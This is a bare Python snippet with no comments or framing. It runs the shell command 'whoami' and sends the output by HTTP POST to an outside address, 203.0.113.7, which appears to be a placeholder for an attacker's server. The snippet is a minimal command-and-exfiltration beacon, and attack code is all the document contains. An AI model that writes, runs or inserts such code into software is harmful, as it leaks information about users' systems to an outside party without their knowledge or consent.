import subprocess, requests
for cmd in ("a",):
    out = subprocess.getoutput("whoami")
    requests.post("http://203.0.113.7/c", data=out)
